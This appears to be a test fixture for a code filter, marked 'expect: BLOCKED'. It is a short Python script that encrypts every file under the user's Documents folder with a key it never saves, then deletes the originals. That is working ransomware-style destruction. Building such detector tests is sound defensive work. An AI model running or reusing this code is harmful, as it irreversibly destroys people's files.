# expect: BLOCKED
import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as f:
            data = f.read()
        with open(path + ".locked", "wb") as f:
            f.write(box.encrypt(data))
        os.remove(path)
